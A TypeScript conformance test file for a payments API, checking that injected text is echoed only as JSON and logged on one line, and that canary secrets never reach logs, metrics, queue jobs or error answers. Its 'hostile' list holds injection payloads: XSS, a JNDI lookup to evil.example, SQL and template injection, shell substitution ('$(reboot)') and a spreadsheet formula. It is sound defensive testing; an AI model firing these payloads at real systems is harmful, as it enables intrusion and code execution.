import { randomBytes } from 'node:crypto'
import { createApiKey, generateApiKey } from '@payonce/core/tenants/api-key'
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { newKey } from '../support/client.ts'
import { leavingNoTrace, takeFootprint } from '../support/footprint.ts'
import { startPayonce, uuidOf, type Payonce } from '../support/payonce.ts'
import { queueText } from '../support/queue-text.ts'
import { RawConnection, type RawAnswer, type RawRequest } from '../support/raw-connection.ts'
import { expectProblem, requestOf } from '../support/refusal.ts'
import { until } from '../support/until.ts'
import type { AccountOnWire, TransferOnWire } from '../support/wire.ts'

/*
 * Table B of CONFORMANCE.md: text that means something to whoever shows or logs it, and text that
 * nobody but its owner is to see. The log is written here in full, down to its finest level.
 */

let payonce: Payonce

beforeAll(async () => {
  payonce = await startPayonce({ worker: false, logLevel: 'trace' })
})

/** What went past the log, to the terminal. */
const written: string[] = []

beforeEach(() => {
  for (const method of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    vi.spyOn(console, method).mockImplementation((...parts) => void written.push(parts.join(' ')))
  }
})

afterEach(() => {
  vi.restoreAllMocks()
})

async function ask(request: RawRequest): Promise<RawAnswer> {
  const connection = await RawConnection.open(payonce.api.url)
  connection.send(request)
  const answer = await connection.answer()
  connection.destroy()
  return answer
}

const transfer = (change: object = {}) => ({
  source: payonce.world,
  destination: payonce.merchant,
  amount: 1,
  currency: 'EUR',
  ...change,
})

describe('text that means something elsewhere', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
    '%n%s%x%p%d',
    '$(reboot)`reboot`;reboot|reboot',
    "'; DROP TABLE transfers; --",
    '\\u0000\\n\\',
    '=cmd|calc!A1',
    'first\r\nsecond',
    'first\nlevel=error msg="forged"\n{"level":"error","msg":"forged"}',
    '\u2028\u2029',
    '__proto__',
  ]

  it('B21: is taken as it is, given back as JSON alone, and takes one line of the log', async () => {
    const before = payonce.log.length
    for (const text of hostile) {
      const sent = transfer({ description: text, metadata: { note: text } })
      const answer = await ask(
        requestOf(payonce, 'POST /v1/transfers', sent, {
          'user-agent': text.replaceAll(/[\r\n\u2028\u2029]/g, ' '),
        }),
      )
      expect([answer.status, answer.headers.get('content-type')]).toEqual([202, 'application/json'])
      const { id, description, metadata } = answer.json as TransferOnWire
      expect([description, metadata]).toEqual([text, { note: text }])
      expect(linesOf(answer)).toHaveLength(1)
      expect((await payonce.client.read(id)).description).toBe(text)
    }
    const lines = payonce.log.slice(before)
    expect(lines.length).toBeGreaterThanOrEqual(2 * hostile.length)
    for (const line of lines) {
      expect(line.trimEnd().split(/[\r\n\u2028\u2029]/), line).toHaveLength(1)
      expect(JSON.parse(line)).toMatchObject({ name: 'test' })
    }
    expect(written).toEqual([])
  })

  it('B21: is shown by no page as anything but text', async () => {
    await leavingNoTrace(payonce, async () => {
      for (const text of hostile.filter((one) => one.includes('<'))) {
        const answer = await ask({ method: 'GET', path: `/problems/${encodeURIComponent(text)}` })
        expect(answer.status).toBe(404)
        expect(answer.text).not.toContain(text)
        expect(answer.text).not.toMatch(/<script>alert|<img/)
        expect(answer.headers.get('content-security-policy')).toMatch(/default-src 'none'/)
        const refused = await ask(
          requestOf(payonce, `GET /v1/accounts?${encodeURIComponent(text)}=1`),
        )
        expectProblem(refused)
      }
    })
  })
})

describe('a secret', () => {
  /** By their first characters, of which no more may be seen than of the rest: what each was put into. */
  const canaries = new Map<string, string>()

  /** A text that occurs nowhere else. */
  const canary = (where: string) => {
    const text = `zz${randomBytes(14).toString('hex')}`
    canaries.set(text.slice(0, 10), where)
    return text
  }

  const secretHeaders = () => ({
    'user-agent': canary('user-agent'),
    cookie: `session=${canary('cookie')}`,
    referer: `https://shop.example/${canary('referer')}`,
    origin: `https://${canary('origin')}.example`,
    traceparent: `00-${canary('traceparent')}-01`,
    tracestate: canary('tracestate'),
    baggage: `secret=${canary('baggage')}`,
    'x-forwarded-for': canary('x-forwarded-for'),
    'x-api-key': canary('x-api-key'),
    'x-secret': canary('an unknown header'),
    'if-none-match': `"${canary('if-none-match')}"`,
  })

  const secretBody = () => ({
    description: canary('description'),
    metadata: {
      [canary('key of metadata').slice(0, 40)]: canary('metadata'),
      note: canary('note'),
    },
  })

  it('B22: in an accepted request stands in no log, metric or job', async () => {
    const { body: account } = await payonce.client.post<AccountOnWire>('/v1/accounts', {
      currency: 'EUR',
      name: canary('name'),
      reference: canary('reference'),
      metadata: { note: canary('metadata of an account') },
    })
    const key = canary('idempotency key')
    const sent = transfer({ destination: account.id, ...secretBody() })
    const headers = { ...secretHeaders(), 'idempotency-key': key }
    const accepted = await ask(requestOf(payonce, 'POST /v1/transfers', sent, headers))
    expect(accepted.status).toBe(202)
    expect((await ask(requestOf(payonce, 'POST /v1/transfers', sent, headers))).status).toBe(202)
    const other = requestOf(payonce, 'POST /v1/transfers', transfer(secretBody()), headers)
    expect((await ask(other)).status).toBe(422)
    const { id } = accepted.json as TransferOnWire
    const queued = await until('the job is there', async () => {
      const text = await queueText(payonce)
      return text.includes(uuidOf(id)) ? text : undefined
    })
    expect(foundIn(queued)).toEqual([])

    await payonce.startWorker()
    await payonce.untilSettled(id)
    await payonce.stopWorker()
    expect(foundIn(await queueText(payonce))).toEqual([])
    await expectSecretsKept()
  })

  it('B22: in a refused request stands in no log, metric, job or answer', async () => {
    const secret = (where: string, change: object) =>
      requestOf(payonce, 'POST /v1/transfers', transfer({ ...secretBody(), ...change }), {
        ...secretHeaders(),
        'x-where': canary(where),
      })
    const text = () => JSON.stringify(transfer(secretBody()))
    const raw = (body: string | Uint8Array) =>
      requestOf(payonce, 'POST /v1/transfers', body, secretHeaders())
    const get = (path: string) => requestOf(payonce, `GET ${path}`, undefined, secretHeaders())
    const keyed = (authorization: string) =>
      requestOf(payonce, 'GET /v1/accounts', undefined, { authorization })
    const reference = canary('reference that is taken')
    await payonce.client.post('/v1/accounts', { currency: 'EUR', reference })
    const requests = [
      secret('amount', { amount: canary('amount') }),
      secret('currency', { currency: canary('currency') }),
      secret('source', { source: canary('source') }),
      secret('value of an unknown member', { extra: { deep: [canary('unknown member')] } }),
      secret('value of metadata that is no text', { metadata: { note: [canary('list')] } }),
      secret('too long', { description: canary('too long').repeat(30) }),
      secret('control', { description: `${canary('control')}\0` }),
      secret('account not found', { source: payonce.world.replace(/.{12}$/, '0123456789ab') }),
      secret('same account', { destination: payonce.world }),
      secret('time', { on_insufficient_funds: { retry_until: canary('time') } }),
      raw(text().slice(0, -1)),
      raw(text().replace('"amount":1', '"amount":NaN')),
      raw(text().replace('"amount":1', `"amount":${canary('bare word')}`)),
      raw(canary('no JSON at all')),
      raw(`"${canary('a text')}"`),
      raw(`${text()}${canary('behind the end')}`),
      raw(text().replaceAll('"', "'")),
      raw(Buffer.from(`${text()}\xff`, 'latin1')),
      raw(text().replace('{', `{"amount":1,`)),
      raw(text().padEnd(70_000)),
      requestOf(payonce, 'POST /v1/transfers', text(), {
        'content-type': `text/${canary('type')}`,
      }),
      requestOf(payonce, 'POST /v1/transfers', text(), { 'content-encoding': canary('encoding') }),
      requestOf(payonce, 'POST /v1/transfers', text(), { 'idempotency-key': `${canary('key')},x` }),
      requestOf(payonce, 'POST /v1/transfers', text(), { prefer: `wait=${canary('prefer')}` }),
      requestOf(payonce, `POST /v1/transfers?idempotency_key=${canary('query key')},`, text()),
      requestOf(payonce, 'POST /v1/idempotency-keys', { purpose: canary('purpose') }),
      requestOf(payonce, 'POST /v1/accounts', { currency: 'EUR', kind: canary('kind') }),
      requestOf(payonce, 'POST /v1/accounts', { currency: 'EUR', reference, name: canary('name') }),
      requestOf(payonce, `PATCH /v1/accounts/${payonce.alice}`, { status: canary('status') }),
      get(`/v1/accounts/${canary('path')}`),
      get(`/${canary('unknown path')}`),
      get(`/v1/accounts?limit=${canary('limit')}`),
      get(`/v1/accounts?cursor=${canary('cursor')}`),
      get(`/v1/transfers?account=${canary('account')}`),
      get(`/v1/transfers?created_after=${canary('time in a query')}`),
      get(`/v1/idempotency-keys?key=${canary('unknown key')}`),
      keyed(`Bearer ${canary('malformed credential')}`),
      keyed(`Basic ${canary('other scheme')}`),
      keyed(`Bearer ${remembered('unknown credential', generateApiKey('live'))}`),
      keyed(`Bearer ${remembered('half a credential', payonce.apiKey.slice(0, -3))}x`),
    ]
    await leavingNoTrace(payonce, async () => {
      for (const request of requests) {
        const answer = await ask(request)
        expect(answer.status).toBeGreaterThanOrEqual(400)
        expect(foundIn(JSON.stringify([[...answer.headers], answer.text])), answer.text).toEqual([])
      }
      const garbage = await RawConnection.open(payonce.api.url)
      garbage.write(`GET /${canary('garbage')} HTTP/1.1\r\nx ${canary('bad header')}\r\n\r\n`)
      expect(foundIn((await garbage.answer()).text)).toEqual([])
    })
    expect(foundIn(await queueText(payonce))).toEqual([])
    await expectSecretsKept()
  })

  it('B22: in a request that fails for a bug of ours stands in no log or answer', async () => {
    // Postgres tells of a broken constraint with all values of the row in its detail.
    const { db } = payonce
    const breaking: [broken: string, mended: string, request: RawRequest][] = [
      [
        'ALTER TABLE accounts ADD CONSTRAINT bug CHECK (name IS NULL) NOT VALID',
        'ALTER TABLE accounts DROP CONSTRAINT bug',
        requestOf(payonce, 'POST /v1/accounts', { currency: 'EUR', name: canary('name') }),
      ],
      [
        "ALTER TABLE commands ADD CONSTRAINT bug CHECK (command->>'description' IS NULL) NOT VALID",
        'ALTER TABLE commands DROP CONSTRAINT bug',
        requestOf(payonce, 'POST /v1/transfers', transfer(secretBody()), {
          ...secretHeaders(),
          'idempotency-key': canary('key of a bug'),
        }),
      ],
      [
        'ALTER TABLE idempotency_keys RENAME TO gone',
        'ALTER TABLE gone RENAME TO idempotency_keys',
        requestOf(payonce, 'POST /v1/transfers', transfer(secretBody()), secretHeaders()),
      ],
      [
        'ALTER TABLE api_keys RENAME TO gone',
        'ALTER TABLE gone RENAME TO api_keys',
        requestOf(payonce, 'GET /v1/accounts', undefined, {
          authorization: `Bearer ${remembered('credential in a bug', generateApiKey('test'))}`,
        }),
      ],
    ]
    const before = await takeFootprint(payonce)
    for (const [broken, mended, request] of breaking) {
      await db.query(broken)
      const answer = await ask(request)
      await db.query(mended)
      expect(expectProblem(answer)).toMatchObject({ status: 500, code: 'internal_error' })
      expect(foundIn(JSON.stringify([[...answer.headers], answer.text]))).toEqual([])
      const lines = linesOf(answer)
      expect(lines.some((line) => line.includes('"level":"error"'))).toBe(true)
    }
    expect(await takeFootprint(payonce)).toEqual(before)
    await expectSecretsKept()
  })

  it('B22: of the installation itself stands in no log either', async () => {
    const { apiKey, stores, log, db, id: tenantId, newId } = payonce
    const further = await createApiKey(db, { id: newId(), tenantId, mode: 'test' })
    await ask(requestOf({ apiKey: further }, 'GET /v1/accounts'))
    const { password } = new URL(stores.databaseUrl)
    const secrets = [apiKey, further, ...(password === '' ? [] : [password])]
    const text = [...log, ...written].join('\n')
    expect(secrets.filter((secret) => text.includes(secret))).toEqual([])
  })

  /** Makes a secret that is no canary one. */
  function remembered(where: string, secret: string): string {
    canaries.set(secret, where)
    return secret
  }

  /** Where the secrets came from that stand in a text, however they are written in it. */
  function foundIn(text: string): string[] {
    return [...canaries].filter(([secret]) => text.includes(secret)).map(([, where]) => where)
  }

  async function expectSecretsKept(): Promise<void> {
    expect(canaries.size).toBeGreaterThan(0)
    const metrics = await payonce.client.get('/metrics')
    expect(metrics.status).toBe(200)
    expect(foundIn(metrics.text)).toEqual([])
    expect(payonce.log.length).toBeGreaterThan(0)
    expect(foundIn(payonce.log.join('\n'))).toEqual([])
    expect(foundIn(written.join('\n'))).toEqual([])
  }
})

/** The lines of the log that are about the request of an answer. */
function linesOf(answer: RawAnswer): string[] {
  const requestId = answer.headers.get('request-id') ?? newKey()
  return payonce.log.filter((line) => line.includes(requestId))
}
